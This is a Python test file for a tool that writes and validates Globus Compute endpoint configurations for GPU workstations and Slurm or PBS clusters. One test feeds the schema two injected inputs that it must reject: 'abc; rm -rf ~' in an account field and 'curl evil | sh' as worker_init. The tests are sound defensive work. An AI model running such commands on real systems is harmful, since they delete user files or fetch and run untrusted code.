"""Endpoint directories load, render and map identities with globus-compute-endpoint's own code.

Each test hands the written directory to the installed endpoint package: ``get_config``
(what ``globus-compute-endpoint start`` loads; it starts only a ``CoreEndpointConfig``),
``render_config_user_template`` (what the endpoint runs per submitting user, with its
schema validation) and ``Endpoint.init_endpoint_dir`` (what ``configure`` runs).
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
from batch_commands import batch_commands
from endpoint_render import render_as_endpoint as _render

from stembench.endpoints.endpoint_config import (
    EndpointSettings,
    list_templates,
    user_config_schema,
    write_endpoint_directory,
)
from stembench.errors import InputError

utils = pytest.importorskip("globus_compute_endpoint.endpoint.config.utils")
from globus_compute_endpoint.endpoint.config import (  # noqa: E402
    CoreEndpointConfig,
    UserEndpointConfig,
)
from globus_compute_endpoint.endpoint.endpoint import Endpoint  # noqa: E402

PROVIDERS = {"workstation-gpu": "LocalProvider", "slurm-gpu": "SlurmProvider",
             "pbs-gpu": "PBSProProvider"}
FUNCTION_ID = "2b5c1c2e-7d7a-4a0c-9a57-2f1b8d6f6a10"
GPU_LOCK = "/tmp/stembench-workstation-gpus.lock"
GPU_LOCK_LINE = (f"L={GPU_LOCK}; [ -e $L ] || (umask 0; : >> $L); exec 9<$L; flock 9")
HPC = ["slurm-gpu", "pbs-gpu"]


def _settings(**changes: Any) -> EndpointSettings:
    values: dict[str, Any] = dict(
        gpus=4, account="MAT123", walltime="02:30:00", partition="gpu-a100",
        worker_init="module load cuda; source /opt/stembench/bin/activate",
        max_blocks=3, allowed_functions=(FUNCTION_ID,))
    values.update(changes)
    return EndpointSettings(**values)


def test_every_template_is_listed() -> None:
    assert list_templates() == sorted(PROVIDERS)


@pytest.mark.parametrize("template", sorted(PROVIDERS))
def test_written_directory_is_what_start_accepts(template: str, tmp_path: Path) -> None:
    written = write_endpoint_directory(template, tmp_path / "stembench", _settings())
    assert [p.name for p in written] == ["config.yaml", "user_config_template.yaml.j2",
                                         "user_config_schema.json"]
    config = utils.get_config(tmp_path / "stembench")
    assert isinstance(config, CoreEndpointConfig)  # `start` refuses anything else
    assert config.display_name == "stembench-gpu"
    assert config.allowed_functions == (FUNCTION_ID,)
    assert config.identity_mapping_config_path is None


def test_old_single_file_layout_is_what_start_refuses() -> None:
    old = ("display_name: x\nengine:\n  type: GlobusComputeEngine\n  provider:\n"
           "    type: LocalProvider\n")
    config = utils.load_config_yaml(old)
    try:
        assert isinstance(config, UserEndpointConfig)
        assert not isinstance(config, CoreEndpointConfig)
    finally:
        config.engine.shutdown()


@pytest.mark.parametrize("template", sorted(PROVIDERS))
def test_user_template_renders_defaults(template: str, tmp_path: Path) -> None:
    write_endpoint_directory(template, tmp_path, _settings())
    config = _render(tmp_path, {})
    assert isinstance(config, UserEndpointConfig)
    engine = config.engine
    assert type(engine).__name__ == "GlobusComputeEngine"
    assert engine.executor.available_accelerators == ["0", "1", "2", "3"]
    assert engine.max_workers_per_node == 4
    provider = engine.executor.provider
    assert type(provider).__name__ == PROVIDERS[template]
    assert provider.worker_init.strip().splitlines()[-1] == (
        "module load cuda; source /opt/stembench/bin/activate")
    assert {s.__name__ for s in engine.serde.allowed_deserializer_types} == {
        "PureSourceTextInspect", "JSONData"}
    if template in HPC:
        assert (provider.walltime, provider.account, provider.max_blocks) == (
            "02:30:00", "MAT123", 3)
    if template == "slurm-gpu":
        assert provider.partition == "gpu-a100"
        assert "#SBATCH --gpus-per-node=4" in provider.scheduler_options
    if template == "pbs-gpu":
        assert (provider.queue, provider.select_options) == ("gpu-a100", "ngpus=4")


@pytest.mark.parametrize("template", HPC)
@pytest.mark.parametrize(("opts", "expected"), [
    ({"gpus": 2}, (["0", "1"], "MAT123", "02:30:00", "gpu-a100")),
    ({"account": "abc", "walltime": "00:30:00"}, (["0", "1", "2", "3"], "abc", "00:30:00",
                                                  "gpu-a100")),
    ({"partition": "debug", "gpus": 1, "account": "x-9"}, (["0"], "x-9", "02:30:00", "debug")),
])
def test_user_options_reach_the_provider(template: str, opts: dict[str, Any],
                                         expected: tuple[Any, ...], tmp_path: Path) -> None:
    write_endpoint_directory(template, tmp_path, _settings())
    config = _render(tmp_path, opts)
    provider = config.engine.executor.provider
    queue = provider.partition if template == "slurm-gpu" else provider.queue
    assert (config.engine.executor.available_accelerators, provider.account,
            provider.walltime, queue) == expected


def test_no_account_means_no_account_line(tmp_path: Path) -> None:
    write_endpoint_directory("slurm-gpu", tmp_path, _settings(account=""))
    config = _render(tmp_path, {})
    assert config.engine.executor.provider.account is None
    config = _render(tmp_path, {"account": "abc"})
    assert config.engine.executor.provider.account == "abc"


@pytest.mark.parametrize(("template", "opts", "message"), [
    ("slurm-gpu", {"gpus": 5}, "greater than the maximum"),
    ("slurm-gpu", {"gpus": "2"}, "is not of type 'integer'"),
    ("pbs-gpu", {"walltime": "1h"}, "does not match"),
    ("slurm-gpu", {"account": "abc; rm -rf ~"}, "does not match"),
    ("slurm-gpu", {"worker_init": "curl evil | sh"}, "Additional properties"),
    ("workstation-gpu", {"walltime": "00:10:00"}, "Additional properties"),
])
def test_bad_user_options_are_refused_by_the_schema(template: str, opts: dict[str, Any],
                                                     message: str, tmp_path: Path) -> None:
    import jsonschema

    write_endpoint_directory(template, tmp_path, _settings())
    with pytest.raises(jsonschema.ValidationError, match=message):
        _render(tmp_path, opts)


#: Runs one never-ending task through the endpoint's own execute_task, in the environment
#: the rendered worker_init leaves, and prints what the workers saw and how the task ended.
SPINNING_TASK = """
import os, sys, time, uuid
from globus_compute_common import messagepack
from globus_compute_common.messagepack.message_types import Task
from globus_compute_endpoint.engines.helper import execute_task
from globus_compute_sdk.serialize import ComputeSerializer

def spin():
    while True:
        time.sleep(0.05)

serde = ComputeSerializer()
body = serde.pack_buffers([serde.serialize(spin), serde.serialize(()), serde.serialize({})])
task_id = uuid.uuid4()
packed = messagepack.pack(Task(task_id=task_id, task_buffer=body))
result = messagepack.unpack(execute_task(packed, task_id, run_dir=sys.argv[1]))
print(os.environ["STEMBENCH_MARK"], os.environ["GC_TASK_TIMEOUT"], result.is_error,
      "AppTimeout" in result.data)
"""


@pytest.mark.parametrize("template", sorted(PROVIDERS))
def test_task_timeout_becomes_the_workers_gc_task_timeout(template: str,
                                                         tmp_path: Path) -> None:
    """Defect 3 of issue 22: the endpoint stops a task past the client's deadline.

    The rendered worker_init runs in a real shell, then the endpoint's ``execute_task``
    runs a task that never ends in that environment: GC_TASK_TIMEOUT stops it
    (globus_compute_endpoint/engines/helper.py:108-113).
    """
    write_endpoint_directory(template, tmp_path / "ep", _settings(
        worker_init="export STEMBENCH_MARK='it''s set'"))
    lines = _render(tmp_path / "ep", {}).engine.executor.provider.worker_init.strip(
    ).splitlines()
    # first the workstation's GPU lock, or slurm-gpu's GPU fence check (test_gpu_fence.py)
    lock = {"workstation-gpu": [GPU_LOCK_LINE], "slurm-gpu": lines[:1]}.get(template, [])
    assert lines == [*lock, "export STEMBENCH_MARK='it''s set'"]  # no limit unless sent
    provider = _render(tmp_path / "ep", {"task_timeout_s": 1}).engine.executor.provider
    worker_init = provider.worker_init.strip()
    assert worker_init.splitlines() == [*lock, "export GC_TASK_TIMEOUT=1",
                                        "export STEMBENCH_MARK='it''s set'"]
    if template != "slurm-gpu":
        return  # the same line everywhere; one shell run is enough
    runner = tmp_path / "runner.py"
    runner.write_text(SPINNING_TASK)
    done = subprocess.run(["bash", "-c", f"{worker_init}\nexec {sys.executable} {runner} "
                           f"{tmp_path / 'run'}"], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "CUDA_VISIBLE_DEVICES": "0,1,2,3"})  # 4 GPUs
    assert done.stdout.split() == ["its", "set", "1", "True", "True"], done.stderr[-2000:]


def test_a_slurm_block_does_not_take_a_whole_node(tmp_path: Path) -> None:
    """Defect 7: SlurmProvider's default ``exclusive=True`` would reserve the node."""
    write_endpoint_directory("slurm-gpu", tmp_path, _settings())
    provider = _render(tmp_path, {"gpus": 1}).engine.executor.provider
    assert provider.exclusive is False
    assert "--exclusive" not in provider.scheduler_options
    assert "#SBATCH --gpus-per-node=1" in provider.scheduler_options


@pytest.mark.parametrize("template", sorted(PROVIDERS))
def test_heartbeats_reach_the_engine_and_its_worker_managers(template: str,
                                                            tmp_path: Path) -> None:
    """How soon a lost block (cancelled, past its walltime) is noticed: parsl's defaults, or
    the administrator's values (the executor hands them to its interchange and managers)."""
    write_endpoint_directory(template, tmp_path / "default", _settings())
    executor = _render(tmp_path / "default", {}).engine.executor
    assert (executor.heartbeat_period, executor.heartbeat_threshold) == (30, 120)
    write_endpoint_directory(template, tmp_path / "short", _settings(
        heartbeat_period_s=2, heartbeat_threshold_s=9))
    executor = _render(tmp_path / "short", {}).engine.executor
    assert (executor.heartbeat_period, executor.heartbeat_threshold) == (2, 9)


def test_a_slurm_block_asks_for_cpus_and_memory_per_gpu(tmp_path: Path) -> None:
    """Not exclusive, a block would get Slurm's defaults: one CPU and DefMemPerCPU."""
    write_endpoint_directory("slurm-gpu", tmp_path / "ep", _settings(gpus=4))
    provider = _render(tmp_path / "ep", {"gpus": 2}).engine.executor.provider
    # parsl turns these into #SBATCH --cpus-per-task=16 and --mem=64g (slurm.py:312-317)
    assert (provider.cores_per_node, provider.mem_per_node) == (16, 64)
    assert provider.launcher.overrides == "--cpus-per-task=16"  # srun does not inherit it
    provider = _render(tmp_path / "ep", {"gpus": 2, "cores_per_node": 3,
                                         "mem_per_node": 5}).engine.executor.provider
    assert (provider.cores_per_node, provider.mem_per_node) == (3, 5)
    provider = _render(tmp_path / "ep", {"gpus": 2, "cores_per_node": 1}
                       ).engine.executor.provider
    assert provider.cores_per_node == 2  # one CPU per GPU at least: one worker per GPU
    write_endpoint_directory("slurm-gpu", tmp_path / "own", _settings(
        gpus=4, cpus_per_gpu=2, mem_per_gpu_gb=0))
    provider = _render(tmp_path / "own", {}).engine.executor.provider
    assert (provider.cores_per_node, provider.mem_per_node) == (8, None)  # 0: Slurm's memory


def _children(pid: int) -> list[str]:
    """Names of the processes whose parent is ``pid`` (from /proc)."""
    names = []
    for stat_file in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat_file.read_text().rsplit(")", 1)
        except OSError:
            continue
        if int(fields[1].split()[1]) == pid:
            names.append(fields[0].split("(", 1)[1])
    return names


def _wait_for(condition: Any) -> None:
    for _ in range(2400):
        if condition():
            return
        time.sleep(0.05)
    raise AssertionError("condition never met")


def test_two_user_endpoints_of_a_workstation_never_hold_the_gpus_at_once(
        tmp_path: Path) -> None:
    """Defect 7: user endpoints with gpus=1 and gpus=2 both pin GPU 0; the second block
    waits for the machine's GPU lock until the first one's worker pool has ended.

    Each block is what LocalProvider runs (parsl/providers/local/local.py:200): the
    rendered worker_init, then the pool (here a loop that holds on until released).
    """
    write_endpoint_directory("workstation-gpu", tmp_path / "ep", _settings(worker_init="true"))
    providers = [_render(tmp_path / "ep", {"gpus": gpus}).engine for gpus in (1, 2)]
    assert [e.executor.available_accelerators for e in providers] == [["0"], ["0", "1"]]
    log = tmp_path / "log"

    def block(name: str, engine: Any) -> subprocess.Popen[bytes]:
        init = engine.executor.provider.worker_init.replace(GPU_LOCK, str(tmp_path / "gpus"))
        pool = (f"echo {name} start >> {log}\nwhile [ ! -e {tmp_path}/release-{name} ]; do "
                f"sleep 0.05; done\necho {name} end >> {log}\n")
        return subprocess.Popen(["bash", "-c", f"{init}\n{pool}"])

    def lines() -> list[str]:
        return log.read_text().splitlines() if log.exists() else []

    first = block("first", providers[0])
    _wait_for(lambda: "first start" in lines())
    second = block("second", providers[1])
    _wait_for(lambda: "second start" in lines() or "flock" in _children(second.pid))
    (tmp_path / "release-first").touch()
    first.wait(timeout=60)
    _wait_for(lambda: "second start" in lines())
    (tmp_path / "release-second").touch()
    second.wait(timeout=60)
    assert lines() == ["first start", "first end", "second start", "second end"]


@pytest.mark.skipif(os.geteuid() != 0, reason="the hint is for root")
def test_a_single_user_directory_written_as_root_says_how_to_start_it(tmp_path: Path) -> None:
    """Defect 7: as root, globus-compute-endpoint refuses a single-user directory with a
    hint about an email (globus_compute_endpoint/cli.py:918-922); ours says what to do."""
    from typer.testing import CliRunner

    from stembench.cli import app

    answer = CliRunner().invoke(app, ["endpoint", "config", "workstation-gpu", "-o",
                                      str(tmp_path / "stembench")])
    assert answer.exit_code == 0, answer.output
    hint = [line for line in answer.output.splitlines() if "Single-user endpoint" in line]
    assert hint and "not as root" in hint[0] and "--multi-user" in hint[0]
    assert "Multi-user endpoints require a contact email address" in hint[0]
    config_text = (tmp_path / "stembench" / "config.yaml").read_text()
    assert "start it as the user who runs its tasks, not as root" in config_text
    upstream = subprocess.run(
        [str(Path(sys.executable).parent / "globus-compute-endpoint"), "start", "stembench"],
        env={**os.environ, "GLOBUS_COMPUTE_USER_DIR": str(tmp_path)}, capture_output=True,
        text=True, timeout=120)
    assert "Multi-user endpoints require a contact email address" in upstream.stderr


def test_schema_file_is_the_published_schema(tmp_path: Path) -> None:
    write_endpoint_directory("pbs-gpu", tmp_path, _settings())
    on_disk = json.loads((tmp_path / "user_config_schema.json").read_text())
    assert on_disk == user_config_schema("pbs-gpu", _settings())
    assert on_disk["properties"]["gpus"]["maximum"] == 4


def test_multi_user_directory_through_the_endpoints_configure(tmp_path: Path) -> None:
    from globus_identity_mapping.validating_mapper import ValidatingMapper

    source = tmp_path / "written"
    settings = _settings(multi_user=True, identity_domain="university.edu",
                         contact_email="hpc-admin@university.edu",
                         user_path=(str(batch_commands(tmp_path / "slurm" / "bin")),))
    written = write_endpoint_directory("slurm-gpu", source, settings)
    idmap = source / "identity_mapping_config.json"
    assert idmap in written and stat.S_IMODE(idmap.stat().st_mode) == 0o600
    direct = utils.get_config(source)  # written straight into ~/.globus_compute/<name>
    assert isinstance(direct, CoreEndpointConfig)
    assert direct.identity_mapping_config_path == idmap
    assert direct.email == "hpc-admin@university.edu"
    # what `globus-compute-endpoint configure --multi-user true ...` does with these files
    configured = tmp_path / "globus_compute" / "stembench"
    Endpoint.init_endpoint_dir(
        configured, endpoint_config=source / "config.yaml",
        user_config_template=source / "user_config_template.yaml.j2",
        user_config_schema=source / "user_config_schema.json",
        id_mapping_config=idmap, id_mapping=True, contact_email="hpc-admin@university.edu")
    config = utils.get_config(configured)
    assert isinstance(config, CoreEndpointConfig)
    assert config.identity_mapping_config_path == configured / "identity_mapping_config.json"
    mapper = ValidatingMapper(json.loads(config.identity_mapping_config_path.read_text()))
    assert mapper.map_identity([{"username": "alice@university.edu", "id": "x"}]) == "alice"
    assert mapper.map_identity([{"username": "mallory@elsewhere.org", "id": "y"}]) is None
    rendered = _render(configured, {"account": "alice-proj", "gpus": 2})
    assert rendered.engine.executor.provider.account == "alice-proj"


def _mapped(idmap: Path, username: str) -> str | None:
    """The local account the core endpoint's own mapper gives ``username`` (core_endpoint.py:
    734-742: the first account of the first mapper that matched), ``None`` if none did."""
    from globus_compute_endpoint.endpoint.identity_mapper import PosixIdentityMapper

    mapper = PosixIdentityMapper(idmap, "test-endpoint")
    try:
        # an identity resource as Globus Auth lists it (globus_sdk.testing's get_identities)
        found = mapper.map_identities([{"id": str(uuid.uuid4()), "username": username,
                                        "status": "used"}])
    finally:
        mapper.stop_watching()
    return next((accounts[0] for per_mapper in found for mapping in per_mapper
                 for accounts in mapping.values()), None)


def test_identity_map_gives_each_identity_its_own_account(tmp_path: Path) -> None:
    """``--identity-map USERNAME=ACCOUNT`` (repeat), before ``--identity-domain``."""
    from typer.testing import CliRunner

    from stembench.cli import app

    answer = CliRunner().invoke(app, [
        "endpoint", "config", "slurm-gpu", "--output", str(tmp_path / "ep"), "--multi-user",
        "--identity-map", "alice@example.org=stembench-alice",
        "--identity-map", "Bob@Example.org=stembench-bob", "--identity-domain", "my-lab.org",
        "--contact-email", "root@my-lab.org",
        "--user-path", str(batch_commands(tmp_path / "slurm" / "bin"))])
    assert answer.exit_code == 0, answer.output
    config = utils.get_config(tmp_path / "ep")
    assert isinstance(config, CoreEndpointConfig)
    idmap = config.identity_mapping_config_path
    assert idmap == tmp_path / "ep" / "identity_mapping_config.json"
    assert _mapped(idmap, "alice@example.org") == "stembench-alice"
    assert _mapped(idmap, "bob@example.org") == "stembench-bob"  # usernames ignore case
    assert _mapped(idmap, "carol@my-lab.org") == "carol"  # a '-' in the domain
    assert _mapped(idmap, "alice@exampleXorg") is None  # matched literally
    assert _mapped(idmap, "carol@example.org") is None


@pytest.mark.parametrize(("entries", "message"), [
    (["alice@example.org"], "write USERNAME=ACCOUNT"),
    (["alice=stembench-alice"], "is not a Globus username"),
    (["alice@example.org=Alice Smith"], "is not a local account name"),
    (["alice@example.org=a", "ALICE@example.org=b"], "mapped twice"),
])
def test_bad_identity_map_entries_are_one_line(tmp_path: Path, entries: list[str],
                                              message: str) -> None:
    from typer.testing import CliRunner

    from stembench.cli import app

    options = [option for entry in entries for option in ("--identity-map", entry)]
    answer = CliRunner().invoke(app, [
        "endpoint", "config", "slurm-gpu", "--output", str(tmp_path / "ep"), "--multi-user",
        "--contact-email", "root@lab.org", *options])
    # stembench.cli.main prints an InputError as its one line
    assert isinstance(answer.exception, InputError) and message in str(answer.exception)
    assert "\n" not in str(answer.exception) and not (tmp_path / "ep").exists()


@pytest.mark.parametrize(("changes", "message"), [
    ({"gpus": 0}, "between 1 and 16"), ({"walltime": "1h"}, "HH:MM:SS"),
    ({"display_name": "my endpoint"}, "display_name"),
    ({"account": "a b"}, "account"), ({"worker_init": "echo {{ x }}"}, "worker_init"),
    ({"allowed_functions": ("not-a-uuid",)}, "not a UUID"),
    ({"heartbeat_period_s": 0}, "heartbeat_period_s must be >= 1"),
    ({"heartbeat_period_s": 30, "heartbeat_threshold_s": 59}, "at least twice"),
    ({"multi_user": True, "contact_email": "a@b.org"}, "identity_domain"),
    ({"multi_user": True, "identity_domain": "u.edu"}, "contact_email"),
    ({"identity_map": (("a@b.org", "a"),)}, "needs a multi-user endpoint"),
    ({"multi_user": True, "identity_domain": "not a domain", "identity_map": (
        ("a@b.org", "a"),), "contact_email": "a@b.org"}, "is not a domain"),
])
def test_bad_settings_are_rejected(changes: dict[str, Any], message: str) -> None:
    with pytest.raises(InputError, match=message):
        EndpointSettings(**changes)


def test_write_refuses_to_overwrite(tmp_path: Path) -> None:
    write_endpoint_directory("workstation-gpu", tmp_path)
    with pytest.raises(InputError, match=r"already holds config\.yaml"):
        write_endpoint_directory("workstation-gpu", tmp_path)
    with pytest.raises(InputError, match="unknown endpoint template"):
        write_endpoint_directory("kubernetes", tmp_path / "k8s")


def test_endpoint_cli_renders_the_directory(tmp_path: Path) -> None:
    """`globus-compute-endpoint render-user-config -e NAME -o OPTS`, the admin's preview.

    Run as the installed command in its own process: the endpoint CLI sets up logging and
    streams of its own, which must not leak into the test process.
    """
    command = Path(sys.executable).with_name("globus-compute-endpoint")  # the compute extra
    write_endpoint_directory("slurm-gpu", tmp_path / "stembench", _settings())
    good, bad = tmp_path / "good.json", tmp_path / "bad.json"
    good.write_text('{"account": "abc", "walltime": "00:30:00"}')
    bad.write_text('{"gpus": 9}')
    env = {**os.environ, "GLOBUS_COMPUTE_USER_DIR": str(tmp_path)}

    def render(options: Path) -> subprocess.CompletedProcess[str]:
        return subprocess.run([str(command), "render-user-config", "-e", "stembench", "-o",
                               str(options)], capture_output=True, text=True, env=env,
                              timeout=120, check=False)

    rendered = render(good)
    assert rendered.returncode == 0, rendered.stdout + rendered.stderr
    assert 'account: "abc"' in rendered.stdout and 'walltime: "00:30:00"' in rendered.stdout
    refused = render(bad)
    assert refused.returncode != 0
    assert "9 is greater than the maximum of 4" in refused.stdout + refused.stderr


def test_config_command_writes_a_multi_user_directory(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from stembench.cli import app

    answer = CliRunner().invoke(app, [
        "endpoint", "config", "pbs-gpu", "--output", str(tmp_path / "ep"), "--multi-user",
        "--identity-domain", "lab.org", "--contact-email", "root@lab.org", "--gpus", "2",
        "--allowed-function", FUNCTION_ID, "--any-serializer",
        "--user-path", str(batch_commands(tmp_path / "pbs" / "bin"))])
    assert answer.exit_code == 0, answer.output
    config = utils.get_config(tmp_path / "ep")
    assert isinstance(config, CoreEndpointConfig) and config.allowed_functions == (FUNCTION_ID,)
    rendered = _render(tmp_path / "ep", {"gpus": 2})
    assert rendered.engine.executor.provider.select_options == "ngpus=2"
    assert not rendered.engine.serde.allowed_deserializer_types  # --any-serializer
